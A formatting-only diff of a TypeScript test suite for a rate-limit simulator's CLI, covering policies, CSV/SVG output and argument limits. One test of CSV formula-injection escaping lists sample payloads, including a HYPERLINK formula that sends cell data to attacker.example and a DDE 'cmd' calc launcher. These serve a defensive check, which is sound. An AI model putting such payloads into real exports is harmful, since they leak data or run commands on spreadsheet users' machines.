@@ -9,7 +9,12 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { csvKey } from '../../lib/simulator/csv-output.js';
 import { simulate } from '../../lib/simulator/simulate.js';
-import { MAX_RATE_REQUESTS, parseSimulateArgs, SimulateArgumentError, type SimulateOptions } from '../../lib/simulator/simulate-args.js';
+import {
+  MAX_RATE_REQUESTS,
+  parseSimulateArgs,
+  SimulateArgumentError,
+  type SimulateOptions,
+} from '../../lib/simulator/simulate-args.js';
 import type { Summary } from '../../lib/simulator/summary.js';
 import { evenlySpaced } from '../../lib/simulator/traffic.js';
 
@@ -34,7 +39,10 @@ async function run(...args: string[]): Promise<{ stdout: string; stderr: string[
 
 /** A CSV file's rows, header first. */
 async function csvRows(file: string): Promise<string[][]> {
-  return (await readFile(file, 'utf8')).trim().split('\n').map((line) => line.split(','));
+  return (await readFile(file, 'utf8'))
+    .trim()
+    .split('\n')
+    .map((line) => line.split(','));
 }
 
 /**
@@ -61,7 +69,16 @@ function referenceTokenBucket(r: number, b: number, times: readonly number[]): s
 describe('simulate: the worked example (token_bucket, r = 10, b = 50, 60 requests/s for 10 s)', () => {
   it('writes the CSV the definition gives, decision for decision', async () => {
     const csv = join(dir, 'worked.csv');
-    await run('--policy', '{"algorithm":"token_bucket","rps":10,"burst":50}', '--rate', '60', '--duration', '10s', '--csv', csv);
+    await run(
+      '--policy',
+      '{"algorithm":"token_bucket","rps":10,"burst":50}',
+      '--rate',
+      '60',
+      '--duration',
+      '10s',
+      '--csv',
+      csv,
+    );
     const [header, ...rows] = await csvRows(csv);
     expect(header).toEqual(['time_ms', 'key', 'allowed', 'remaining', 'retry_after']);
     // evenly spaced: request i at floor(i * 1000 / 60) ms
@@ -90,13 +107,25 @@ describe('simulate: several policies', () => {
     const csv = join(dir, 'two.csv');
     // 5 requests/s for 4 s: "slow" admits 1 per second, "burst" holds 10 and refills none in 4 s
     const { stdout } = await run(
-      '--policy', '{"name":"slow","rps":1,"burst":1}',
-      '--policy', '{"name":"burst","limit":10,"window":"1h"}',
-      '--rate', '5', '--duration', '4s', '--csv', csv,
+      '--policy',
+      '{"name":"slow","rps":1,"burst":1}',
+      '--policy',
+      '{"name":"burst","limit":10,"window":"1h"}',
+      '--rate',
+      '5',
+      '--duration',
+      '4s',
+      '--csv',
+      csv,
     );
     const [, ...rows] = await csvRows(csv);
     // only "slow" refuses, and "burst" is charged only for the 4 admitted: 10 - 4 = 6 left
-    expect(rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time)).toEqual(['0', '1000', '2000', '3000']);
+    expect(rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time)).toEqual([
+      '0',
+      '1000',
+      '2000',
+      '3000',
+    ]);
     expect(rows.at(-1)).toEqual(['3800', '-', 'false', '0', '1']);
     expect(stdout).toContain('all policies: 2 policies, all-or-nothing: slow, burst');
     expect(stdout).toContain('burst: token_bucket, rps 0.00277778, burst 10 (its own verdict)');
@@ -108,7 +137,14 @@ describe('simulate: several policies', () => {
     const trace = join(dir, 'costs.csv');
     const csv = join(dir, 'costs-out.csv');
     await writeFile(trace, 'time,key,cost\n0,a,3\n1,a,6\n2,a,3\n3,a\n');
-    await run('--policy', '{"rps":1,"burst":5,"cost":"header:x-weight","defaultCost":2}', '--trace', trace, '--csv', csv);
+    await run(
+      '--policy',
+      '{"rps":1,"burst":5,"cost":"header:x-weight","defaultCost":2}',
+      '--trace',
+      trace,
+      '--csv',
+      csv,
+    );
     const [, ...rows] = await csvRows(csv);
     expect(rows).toEqual([
       ['0', 'a', 'true', '2', '0'],
@@ -126,7 +162,16 @@ describe('simulate: blocks, comparisons and long traffic', () => {
   it('keeps a block a refusal started, whatever refills meanwhile', async () => {
     const csv = join(dir, 'block.csv');
     // 2 per second, blocked for 10 s once refused: 5 requests/s for 4 s admit the first 2 only
-    const { stdout } = await run('--policy', '{"algorithm":"fixed_window","limit":2,"window":"1s","blockFor":"10s"}', '--rate', '5', '--duration', '4s', '--csv', csv);
+    const { stdout } = await run(
+      '--policy',
+      '{"algorithm":"fixed_window","limit":2,"window":"1s","blockFor":"10s"}',
+      '--rate',
+      '5',
+      '--duration',
+      '4s',
+      '--csv',
+      csv,
+    );
     const [, ...rows] = await csvRows(csv);
     expect(rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time)).toEqual(['0', '200']);
     // Retry-After counts down to the block's end, 10 s after the first refusal at 400 ms
@@ -137,7 +182,20 @@ describe('simulate: blocks, comparisons and long traffic', () => {
 
   it('writes one CSV row per request and algorithm with --compare, the algorithm in its own column', async () => {
     const csv = join(dir, 'compare.csv');
-    await run('--compare', 'fixed_window,gcra', '--limit', '1', '--window', '1s', '--rate', '2', '--duration', '1s', '--csv', csv);
+    await run(
+      '--compare',
+      'fixed_window,gcra',
+      '--limit',
+      '1',
+      '--window',
+      '1s',
+      '--rate',
+      '2',
+      '--duration',
+      '1s',
+      '--csv',
+      csv,
+    );
     expect(await csvRows(csv)).toEqual([
       ['time_ms', 'key', 'algorithm', 'allowed', 'remaining', 'retry_after'],
       ['0', '-', 'fixed_window', 'true', '0', '0'],
@@ -172,7 +230,19 @@ describe('simulate --compare and --json', () => {
       JSON.stringify({ time: 110, key: '__proto__' }),
     ];
     await writeFile(trace, `${lines.join('\n')}\n`);
-    const { stdout } = await run('--compare', 'token_bucket,fixed_window', '--limit', '5', '--window', '1m', '--trace', trace, '--json', '--top', '1');
+    const { stdout } = await run(
+      '--compare',
+      'token_bucket,fixed_window',
+      '--limit',
+      '5',
+      '--window',
+      '1m',
+      '--trace',
+      trace,
+      '--json',
+      '--top',
+      '1',
+    );
     const summary = JSON.parse(stdout) as Summary;
     expect(summary.requests).toBe(10);
     expect(summary.traffic).toMatchObject({ trace, format: 'ndjson', lines: 10, badLines: 0 });
@@ -190,13 +260,33 @@ describe('simulate --compare and --json', () => {
 
   it('writes an SVG with a panel per algorithm, axes with units and a legend, the same bytes every run', async () => {
     const svg = join(dir, 'compare.svg');
-    const args = ['--compare', 'all', '--rps', '10', '--burst', '50', '--rate', '60', '--duration', '10s', '--svg', svg];
+    const args = [
+      '--compare',
+      'all',
+      '--rps',
+      '10',
+      '--burst',
+      '50',
+      '--rate',
+      '60',
+      '--duration',
+      '10s',
+      '--svg',
+      svg,
+    ];
     await run(...args);
     const first = await readFile(svg, 'utf8');
     await run(...args);
     expect(await readFile(svg, 'utf8')).toBe(first);
     expect(first).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"[^>]*>[\s\S]*<\/svg>\n$/);
-    for (const algorithm of ['token_bucket', 'leaky_bucket', 'fixed_window', 'sliding_window_log', 'sliding_window_counter', 'gcra']) {
+    for (const algorithm of [
+      'token_bucket',
+      'leaky_bucket',
+      'fixed_window',
+      'sliding_window_log',
+      'sliding_window_counter',
+      'gcra',
+    ]) {
       expect(first).toContain(`<tspan font-weight="600">${algorithm}</tspan>`);
     }
     expect(first.match(/>time \(s\)</g)).toHaveLength(6);
@@ -218,25 +308,42 @@ describe('simulate --rate: a run that ends', () => {
     expect(() => parseSimulateArgs([...policy, '--rate', '200', '--duration', '1d'])).toThrow(
       'Invalid nestjs-ratelimit simulate argument --rate: times --duration 1d makes 17,280,000 requests; a run simulates at most 10,000,000: lower --rate or --duration, got "200"',
     );
-    expect(() => parseSimulateArgs([...policy, '--rate', '1e14', '--duration', '1d'])).toThrow('times --duration 1d makes 8.64e+18 requests');
+    expect(() => parseSimulateArgs([...policy, '--rate', '1e14', '--duration', '1d'])).toThrow(
+      'times --duration 1d makes 8.64e+18 requests',
+    );
     // the default --duration counts too
-    expect(() => parseSimulateArgs([...policy, '--rate', '1000001'])).toThrow(/times --duration 10s makes 10,000,010 requests/);
-    expect(parseSimulateArgs([...policy, '--rate', '1000', '--duration', '10000s'])).toMatchObject({ traffic: { rate: 1000, durationMs: 10_000_000 } });
+    expect(() => parseSimulateArgs([...policy, '--rate', '1000001'])).toThrow(
+      /times --duration 10s makes 10,000,010 requests/,
+    );
+    expect(parseSimulateArgs([...policy, '--rate', '1000', '--duration', '10000s'])).toMatchObject({
+      traffic: { rate: 1000, durationMs: 10_000_000 },
+    });
     expect(MAX_RATE_REQUESTS).toBe(10_000_000);
   });
 
   it('refuses a --duration over a day: counts are kept per second, and evenly spaced traffic only repeats itself', () => {
     expect(() => parseSimulateArgs([...policy, '--rate', '0.001', '--duration', '2d'])).toThrow(
-      new SimulateArgumentError('Invalid nestjs-ratelimit simulate argument --duration: must be at most 1d (86400 s); replay a --trace for longer traffic, got "2d"'),
+      new SimulateArgumentError(
+        'Invalid nestjs-ratelimit simulate argument --duration: must be at most 1d (86400 s); replay a --trace for longer traffic, got "2d"',
+      ),
     );
-    expect(parseSimulateArgs([...policy, '--rate', '1', '--duration', '1d'])).toMatchObject({ traffic: { rate: 1, durationMs: 86_400_000 } });
+    expect(parseSimulateArgs([...policy, '--rate', '1', '--duration', '1d'])).toMatchObject({
+      traffic: { rate: 1, durationMs: 86_400_000 },
+    });
   });
 
   it('says on stderr how far a long run is, every second or so of its clock', () => {
     // a clock that moves 600 ms each time it is read: read every 16,384 requests, a line every other read
     let now = 0;
     const lines: string[] = [];
-    const arrivals = [...evenlySpaced(1000, 100_000, (line) => lines.push(line), () => (now += 600))];
+    const arrivals = [
+      ...evenlySpaced(
+        1000,
+        100_000,
+        (line) => lines.push(line),
+        () => (now += 600),
+      ),
+    ];
     expect(arrivals).toHaveLength(100_000);
     expect(lines).toEqual([
       'simulate: 32,768 of 100,000 requests (32 %), 27,307 requests/s',
@@ -248,7 +355,11 @@ describe('simulate --rate: a run that ends', () => {
 
 describe('simulate --csv: keys a spreadsheet would run as formulas', () => {
   it("writes a key that starts with =, +, -, @, a tab or a carriage return as quoted text after a ' (OWASP), and '-' alone as it is", () => {
-    expect(['=1+2', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', '=a,"b"', '-', 'a,b', 'say "hi"', "'quoted", 'alice'].map(csvKey)).toEqual([
+    expect(
+      ['=1+2', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', '=a,"b"', '-', 'a,b', 'say "hi"', "'quoted", 'alice'].map(
+        csvKey,
+      ),
+    ).toEqual([
       `"'=1+2"`,
       `"'+1"`,
       `"'-1+2"`,
@@ -267,7 +378,16 @@ describe('simulate --csv: keys a spreadsheet would run as formulas', () => {
   it('keeps a formula in a trace key from reaching the file as one', async () => {
     const trace = join(dir, 'formulas.ndjson');
     const csv = join(dir, 'formulas-out.csv');
-    const keys = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd', '\t=1', '\r=1', '', 'bob'];
+    const keys = [
+      '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)*cmd',
+      '\t=1',
+      '\r=1',
+      '',
+      'bob',
+    ];
     await writeFile(trace, keys.map((key, i) => JSON.stringify({ time: i, key })).join('\n'));
     await run('--policy', '{"rps":1,"burst":100}', '--trace', trace, '--csv', csv);
     expect(await readFile(csv, 'utf8')).toBe(
@@ -290,7 +410,11 @@ describe('simulate --csv: keys a spreadsheet would run as formulas', () => {
 
 describe('simulate: traces over huge spans', () => {
   /** The x axis's labels in the terminal chart: the line under the plot, ending in " s". */
-  const axisLine = (stdout: string): string => stdout.split('\n').filter((line) => / s$/.test(line) && !line.includes('requests')).pop()!;
+  const axisLine = (stdout: string): string =>
+    stdout
+      .split('\n')
+      .filter((line) => / s$/.test(line) && !line.includes('requests'))
+      .pop()!;
 
   it('spaces the terminal x axis by its labels: none run together, whatever their digits', async () => {
     const trace = join(dir, 'span.csv');
@@ -312,7 +436,11 @@ describe('simulate: traces over huge spans', () => {
     await writeFile(trace, '-9007199254740991,a\n9007199254740991,a\n');
     await run('--policy', '{"rps":10,"burst":5}', '--trace', trace, '--svg', svg);
     // the x labels: centred numbers under the plot; a digit at 12 px is at most 0.6 em, 7.2 px, wide
-    const labels = [...(await readFile(svg, 'utf8')).matchAll(/<text x="([\d.]+)" y="\d+" text-anchor="middle" fill="#424242">(\d+)<\/text>/g)].map(([, x, text]) => ({
+    const labels = [
+      ...(await readFile(svg, 'utf8')).matchAll(
+        /<text x="([\d.]+)" y="\d+" text-anchor="middle" fill="#424242">(\d+)<\/text>/g,
+      ),
+    ].map(([, x, text]) => ({
       x: Number(x),
       width: text.length * 7.2,
     }));
@@ -329,7 +457,11 @@ describe('simulate: traces over huge spans', () => {
     await writeFile(trace, `0,a\n1${'0'.repeat(300)},a\n-9007199254740992,a\n`);
     const { stdout } = await run('--policy', '{"rps":10,"burst":5}', '--trace', trace);
     expect(stdout).toContain('1 request replayed');
-    expect(stdout).toContain('line 2: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "1000000000');
-    expect(stdout).toContain('line 3: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "-9007199254740992"');
+    expect(stdout).toContain(
+      'line 2: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "1000000000',
+    );
+    expect(stdout).toContain(
+      'line 3: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "-9007199254740992"',
+    );
   });
 });
